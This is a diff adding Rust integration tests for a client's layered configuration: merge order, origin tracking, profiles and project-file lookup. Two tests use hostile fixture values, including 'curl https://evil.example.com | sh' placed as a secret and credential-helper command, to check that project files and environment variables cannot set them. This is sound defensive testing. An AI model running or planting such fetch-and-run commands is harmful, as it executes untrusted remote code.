@@ -0,0 +1,212 @@
+mod common;
+
+use common::temp_dir;
+use rust_rcp_client::config::{find_project_config, ConfigLayers, ConfigSource};
+use std::path::PathBuf;
+
+#[tokio::test]
+async fn test_later_layers_override_only_the_keys_they_set() {
+    let dir = temp_dir("layers");
+    let system = dir.join("system.toml");
+    let user = dir.join("user.toml");
+    std::fs::write(
+        &system,
+        "[server]\naddress = \"rcp.corp.example.com\"\nuse_tls = true\n\n[auth]\nmethod = \"native\"\n",
+    )
+    .unwrap();
+    std::fs::write(&user, "[auth]\nusername = \"alice\"\n").unwrap();
+
+    let mut layers = ConfigLayers::new();
+    assert!(layers
+        .merge_file(&system, ConfigSource::System(system.clone()))
+        .await
+        .unwrap());
+    assert!(layers
+        .merge_file(&user, ConfigSource::User(user.clone()))
+        .await
+        .unwrap());
+    assert!(!layers
+        .merge_file(&dir.join("missing.toml"), ConfigSource::Default)
+        .await
+        .unwrap());
+    layers
+        .merge_env(vec![
+            ("RCP_SERVER_PORT".to_string(), "9000".to_string()),
+            ("RCP_AUTH_METHODS".to_string(), "psk, password".to_string()),
+            ("RCP_HOME".to_string(), "/opt/rcp".to_string()),
+        ])
+        .unwrap();
+    layers.set_command_line("auth.method", "psk");
+
+    let config = layers.resolve().unwrap();
+    std::fs::remove_dir_all(&dir).unwrap();
+
+    assert_eq!(config.server.address, "rcp.corp.example.com");
+    assert!(config.server.use_tls);
+    assert_eq!(config.server.port, 9000);
+    assert_eq!(config.auth.username.as_deref(), Some("alice"));
+    assert_eq!(config.auth.methods, vec!["psk", "password"]);
+    assert_eq!(config.auth.method, "psk");
+
+    assert_eq!(
+        layers.origin("server.address"),
+        ConfigSource::System(system)
+    );
+    assert_eq!(layers.origin("auth.username"), ConfigSource::User(user));
+    assert_eq!(
+        layers.origin("server.port"),
+        ConfigSource::Environment("RCP_SERVER_PORT".to_string())
+    );
+    assert_eq!(layers.origin("auth.method"), ConfigSource::CommandLine);
+    assert_eq!(layers.origin("ui.dark_mode"), ConfigSource::Default);
+}
+
+#[test]
+fn test_invalid_environment_value_is_reported() {
+    let mut layers = ConfigLayers::new();
+    let error = layers
+        .merge_env(vec![("RCP_SERVER_PORT".to_string(), "http".to_string())])
+        .unwrap_err();
+    assert!(error.to_string().contains("RCP_SERVER_PORT"));
+}
+
+#[test]
+fn test_explain_attributes_profile_values() {
+    let mut layers = ConfigLayers::new();
+    let table = toml::from_str(
+        "default_profile = \"lab\"\n\n[profiles.lab.server]\naddress = \"10.0.0.5\"\n",
+    )
+    .unwrap();
+    layers.merge(table, &ConfigSource::Default);
+
+    let explained = layers.explain().unwrap();
+    let (_, value, source) = explained
+        .iter()
+        .find(|(key, _, _)| key == "server.address")
+        .unwrap();
+    assert_eq!(value.as_str(), Some("10.0.0.5"));
+    assert_eq!(*source, ConfigSource::Profile("lab".to_string()));
+    assert!(explained
+        .iter()
+        .all(|(key, _, _)| !key.starts_with("profiles.")));
+}
+
+#[test]
+fn test_project_config_is_found_in_a_parent_directory() {
+    let dir = temp_dir("layers");
+    let nested = dir.join("a").join("b");
+    std::fs::create_dir_all(&nested).unwrap();
+    std::fs::write(dir.join(".rcp.toml"), "[server]\nport = 9100\n").unwrap();
+
+    let found = find_project_config(&nested);
+    std::fs::remove_dir_all(&dir).unwrap();
+    assert_eq!(found, Some(dir.join(".rcp.toml")));
+}
+
+#[tokio::test]
+async fn test_project_config_cannot_set_secrets_or_commands() {
+    let dir = temp_dir("layers");
+    let project = dir.join(".rcp.toml");
+    std::fs::write(
+        &project,
+        "[server]\naddress = \"rcp.project.example.com\"\nverify_server = false\n\n\
+         [auth]\nusername = \"build\"\npsk = \"cmd:curl https://evil.example.com | sh\"\n\
+         credential_helper = \"sh -c 'curl https://evil.example.com'\"\n\n\
+         [profiles.ci.auth]\nnative_helper_socket = \"/tmp/evil.sock\"\nmethod = \"psk\"\n",
+    )
+    .unwrap();
+
+    let mut layers = ConfigLayers::new();
+    layers
+        .merge_file(&project, ConfigSource::Project(project.clone()))
+        .await
+        .unwrap();
+    let config = layers.resolve().unwrap();
+    std::fs::remove_dir_all(&dir).unwrap();
+
+    assert_eq!(config.server.address, "rcp.project.example.com");
+    assert_eq!(config.auth.username.as_deref(), Some("build"));
+    assert!(config.server.verify_server);
+    assert!(config.auth.psk.is_none());
+    assert!(config.auth.credential_helper.is_none());
+    assert_eq!(layers.origin("auth.psk"), ConfigSource::Default);
+
+    let ci = &config.profiles["ci"].auth;
+    assert_eq!(ci.method.as_deref(), Some("psk"));
+    assert!(ci.native_helper_socket.is_none());
+}
+
+#[test]
+fn test_command_secrets_are_only_read_from_user_or_system_config() {
+    let mut layers = ConfigLayers::new();
+    layers
+        .merge_env(vec![(
+            "RCP_AUTH_PSK".to_string(),
+            "cmd:curl https://evil.example.com".to_string(),
+        )])
+        .unwrap();
+    let config = layers.resolve().unwrap();
+    assert!(config.auth.psk.is_none());
+
+    layers
+        .merge_env(vec![(
+            "RCP_AUTH_PSK".to_string(),
+            "env:RCP_PSK".to_string(),
+        )])
+        .unwrap();
+    let config = layers.resolve().unwrap();
+    assert_eq!(
+        config.auth.psk.map(|psk| psk.to_string()).as_deref(),
+        Some("env:RCP_PSK")
+    );
+
+    let user = PathBuf::from("/home/alice/.config/rcp/config.toml");
+    let table = toml::from_str("[auth]\npsk = \"cmd:pass show rcp\"\n").unwrap();
+    layers.merge(table, &ConfigSource::User(user.clone()));
+    assert_eq!(layers.origin("auth.psk"), ConfigSource::User(user));
+}
+
+#[test]
+fn test_environment_overrides_the_default_profile() {
+    let mut layers = ConfigLayers::new();
+    let user = PathBuf::from("/home/alice/.config/rcp/config.toml");
+    let table = toml::from_str(
+        "default_profile = \"lab\"\n\n[profiles.lab.server]\naddress = \"10.0.0.5\"\nport = 9100\n\n\
+         [profiles.lab.auth]\nmethod = \"password\"\n",
+    )
+    .unwrap();
+    layers.merge(table, &ConfigSource::User(user));
+    layers
+        .merge_env(vec![
+            ("RCP_SERVER_PORT".to_string(), "9200".to_string()),
+            ("RCP_AUTH_METHOD".to_string(), "psk".to_string()),
+        ])
+        .unwrap();
+
+    let config = layers.resolve().unwrap();
+    assert_eq!(config.active_profile.as_deref(), Some("lab"));
+    assert_eq!(config.server.address, "10.0.0.5");
+    assert_eq!(config.server.port, 9200);
+    assert_eq!(config.auth.method, "psk");
+
+    let explained = layers.explain().unwrap();
+    let source = |name: &str| {
+        explained
+            .iter()
+            .find(|(key, _, _)| key == name)
+            .map(|(_, _, source)| source.clone())
+            .unwrap()
+    };
+    assert_eq!(
+        source("server.address"),
+        ConfigSource::Profile("lab".to_string())
+    );
+    assert_eq!(
+        source("server.port"),
+        ConfigSource::Environment("RCP_SERVER_PORT".to_string())
+    );
+
+    // Command-line flags still come last
+    layers.set_command_line("server.port", 9300);
+    assert_eq!(layers.resolve().unwrap().server.port, 9300);
+}